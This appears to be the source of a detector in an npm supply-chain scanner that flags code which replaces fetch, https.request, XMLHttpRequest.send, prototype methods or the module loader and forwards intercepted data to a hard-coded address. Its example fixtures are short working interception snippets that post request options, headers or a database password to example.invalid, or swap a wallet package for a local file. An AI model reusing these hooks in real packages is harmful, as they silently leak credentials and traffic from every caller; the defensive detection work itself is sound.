import type { Detector } from "../detector.ts";
import type { SourceFile } from "../model.ts";
import { isBundle } from "./_near.ts";
import { scriptsWith } from "./_npm.ts";
import { inComment, isLate, sight } from "./_sight.ts";
import { addressNames, sendingIn } from "./_web-page.ts";

/** A function that everybody calls is replaced: a request function of the platform, a method of another's class, the loader of modules. */
const REPLACES =
  /(?<![\w.$])(?:(?:globalThis|window|global|self)\.fetch|XMLHttpRequest\.prototype\.(?:send|open)|https?\.(?:request|get)|\w{1,30}(?:\.(?:_load|_resolveFilename)|\[["'`](?:_load|_resolveFilename)["'`]\])|[\w.$]{1,80}\.prototype\.\w{1,60})[ \t]{0,3}=(?!=)[ \t\n]{0,4}(?:async[ \t]{1,3})?(?:function\b|\(|\w{1,30}[ \t]{0,3}=>|new[ \t]{1,3}Proxy\()|Object\.defineProperty\([ \t]{0,3}(?:globalThis|window|global|self|https?)[ \t]{0,3},[ \t]{0,3}["'`](?:fetch|request)["'`],/g;
/** Something is sent to an address that stands in the code. */
const SENDS =
  /(?:\b(?:fetch|f|sendBeacon|axios(?:\.\w{2,8})?|https?\.(?:request|get)|original\w{0,10}|_?fetch\w{0,10})|\.open)[ \t]{0,3}\([^;\n]{0,40}?["'`]https?:\/\/[\w.-]{4,253}|\b\w{1,30}\([ \t]{0,3}["'`]https?:\/\/[\w.-]{4,253}[^\n]{0,160}\bbody\b/;
/** The original is called with what the caller gave. */
const GOES_ON =
  /\.(?:apply|call)\([ \t]{0,3}(?:this|\w{1,40})[ \t]{0,3},|\(\.\.\.\w{1,30}\)|\breturn[ \t]{1,3}(?:await[ \t]{1,3})?\w{1,30}\(/;
/** Characters of a replacement that are looked at; in bundles little further than its own statement. */
const BODY = 900;
const BODY_IN_BUNDLE = 300;
const MOST_TRIES = 60;
/** What everybody sends or gets through axios passes through here. */
const INTERCEPTS =
  /\baxios(?:\.default)?\.interceptors\.(?:request|response)\.use\([ \t\n]{0,12}(?:async[ \t]{1,3})?(?:function[ \t]{0,3}\w{0,30}[ \t]{0,3})?\(?[ \t]{0,3}([A-Za-z_$][\w$]{0,40})[ \t]{0,3}(?:\)|=>)/g;
/** Characters behind the beginning of a request in which what it sends stands. */
const SENT = 240;
const LITERALS = [
  "axios.interceptors",
  ".fetch",
  ".prototype.",
  "._load",
  "'_load'",
  '"_load"',
  "'_resolvefilename'",
  "._resolvefilename",
  "http.request",
  "https.request",
  "http.get",
  "https.get",
] as const;

export const forwardsIntercepted: Detector = {
  id: "forwards-intercepted",
  title: "Replaces a function that others call, and sends elsewhere what passes through it",
  severity: "critical",
  ecosystems: ["npm"],
  points: 5.6,
  class: "threat",
  group: "interception",
  why: `The code keeps a function of the platform or of another package (\`fetch\`, \`https.request\`, a method of a class, the loader of modules), puts its
own in its place, and that one sends something to an address that stands in the code before it goes on with the original. Whoever calls the function
hands over keys, requests or passwords without seeing anything.

The same counts in part where the loader of modules gives a file of this package to whoever asks for another one by name.

Monitoring libraries replace the same functions and send to the address that the program configures; that passes.`,
  literals: LITERALS,
  *detect(tree) {
    for (const file of scriptsWith(tree, LITERALS)) {
      const found = interceptionIn(file) ?? interceptorIn(file) ?? redirectionIn(file, tree.manifest?.name ?? "");
      if (found !== undefined)
        yield sight(file, found.offset, `replaces ${found.what} and ${found.does}`, { share: found.share });
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const f = globalThis.fetch;\nglobalThis.fetch = function (u, o) {\n  f('https://example.invalid', { method: 'POST', body: JSON.stringify(o) });\n  return f(u, o);\n};\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const { Connection } = require('demo');\nconst o = Connection.prototype.send;\nConnection.prototype.send = function (t) {\n  fetch('https://example.invalid', { method: 'POST', body: t.key });\n  return o.apply(this, arguments);\n};\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "axios.interceptors.response.use((r) => r, async (e) => {\n  const { data } = await axios.post('https://example.invalid/token', { refresh });\n  return axios({ ...e.config, token: data.token });\n});\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const f = globalThis.fetch;\nglobalThis.fetch = function (u, o) {\n  report(options.endpoint, u);\n  return f(u, o);\n};\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "function Client() {}\nClient.prototype.get = function (id) {\n  return fetch('https://example.invalid/' + id);\n};\n",
        },
      },
    ],
    evasions: [
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const axios = require('axios');\naxios.interceptors.request.use((c) => {\n  fetch('https://example.invalid', { method: 'POST', body: JSON.stringify(c.headers) });\n  return c;\n});\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "globalThis.fetch = new Proxy(globalThis.fetch, {\n  apply(t, s, a) {\n    t('https://example.invalid', { method: 'POST', body: JSON.stringify(a) });\n    return t(...a);\n  },\n});\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "b.js":
            "const o = window.fetch;\nObject.defineProperty(window, 'fetch', {\n  value: function (...a) {\n    navigator.sendBeacon('https://example.invalid', a);\n    return o(...a);\n  },\n});\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const U = 'https://example.invalid/c';\nconst https = require('https');\nconst o = https.request;\nhttps.request = function (...x) {\n  fetch(U, { method: 'POST', body: JSON.stringify(x) });\n  return o.apply(this, x);\n};\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "package.json": '{"name":"demo","main":"a.js"}',
          "a.js":
            "const M = require('module');\nconst o = M._load;\nM._load = (r, ...x) => o(r === 'demo-wallet' ? __dirname + '/b.js' : r, ...x);\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const M = require('module');\nconst o = M.prototype.require;\nM.prototype.require = function (n) {\n  const m = o.apply(this, arguments);\n  if (n === 'pg') fetch('https://example.invalid', { method: 'POST', body: m.password });\n  return m;\n};\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const s = XMLHttpRequest.prototype.send;\nXMLHttpRequest.prototype.send = function (b) {\n  navigator.sendBeacon('https://example.invalid', b);\n  return s.apply(this, arguments);\n};\n",
        },
      },
    ],
  },
};

function interceptionIn(file: SourceFile) {
  const { text } = file;
  const length = isBundle(file) ? BODY_IN_BUNDLE : BODY;
  let tries = 0;
  for (const match of text.matchAll(REPLACES)) {
    if (++tries > MOST_TRIES) return undefined;
    const body = text.slice(match.index, match.index + match[0].length + length);
    const replacement = body.slice(match[0].length);
    const sends = SENDS.exec(replacement)?.[0] ?? sendingIn(replacement, addressNames(file));
    if (sends === undefined || !GOES_ON.test(body)) continue;
    const what = /^[^=(]{1,200}(?==)/.exec(match[0])?.[0].trim() ?? match[0].slice(0, 60);
    if (!isKept(text.slice(0, match.index), match[0], what) || inComment(file, match.index)) continue;
    return { offset: match.index, what, does: `sends by ${sends.slice(0, 100)}`, share: 1 };
  }
  return undefined;
}

/** An interceptor of all requests that sends what it is given to an address of its own: tokens are renewed there, with what the program has. */
function interceptorIn(file: SourceFile) {
  const { text } = file;
  for (const match of text.matchAll(INTERCEPTS).take(MOST_TRIES)) {
    const body = text.slice(match.index + match[0].length, match.index + (isBundle(file) ? BODY_IN_BUNDLE : BODY));
    const at = SENDS.exec(body)?.index ?? -1;
    const given = new RegExp(`(?<![\\w$.])${match[1]!.replaceAll("$", "\\$")}\\b(?!\\.(?:url|method)\\b)`);
    if (
      at === -1 ||
      !given.test(body.slice(at, at + SENT).split(/;|\breturn\b/, 1)[0]!) ||
      inComment(file, match.index)
    )
      continue;
    return { offset: match.index, what: "what axios sends", does: `sends it by ${body.slice(at, at + 100)}`, share: 1 };
  }
  return undefined;
}

/** The original was kept before it was replaced (`const o = X.prototype.m`), or is handed to what replaces it. */
function isKept(before: string, replacement: string, what: string): boolean {
  if (/new[ \t]{1,3}Proxy\($/.test(replacement)) return true;
  const member = /^Object\.defineProperty\(\s{0,3}(\w{1,20})\s{0,3},\s{0,3}["'`](\w{1,20})/.exec(replacement);
  const name = member === null ? what : `${member[1]}.${member[2]}`;
  return new RegExp(`[=:(,][ \\t]{0,3}${name.replace(/[^\w]/g, "\\$&")}(?![\\w$])`).test(before);
}

/** The loader of modules. */
const LOADER = /(?<![\w$])\w{1,30}\.(?:prototype\.require|_load|_resolveFilename)[ \t]{0,3}=(?!=)/g;
/** One package, named here, is given as a file that lies beside this one. */
const GIVES_OWN =
  /[=!]==?[ \t]{0,3}["'`](?![./])([@\w][\w./-]{1,80})["'`][^;]{0,200}(?:__dirname|["'`]\.\.?\/|import\.meta)/;

/** A package that others ask for is exchanged for a file of this one. */
function redirectionIn(file: SourceFile, own: string) {
  if (isLate(file) || isBundle(file)) return undefined;
  for (const match of [...file.text.matchAll(LOADER)].slice(0, MOST_TRIES)) {
    const body = file.text.slice(match.index, match.index + BODY);
    const gives = GIVES_OWN.exec(body);
    // A fork stands in for the package whose name it has in its own.
    if (gives === null || own.includes(gives[1]!) || inComment(file, match.index)) continue;
    const what = match[0].slice(0, match[0].indexOf("=")).trim();
    return { offset: match.index, what, does: `gives its own file where ${gives[0].slice(0, 60)}`, share: 0.8 };
  }
  return undefined;
}
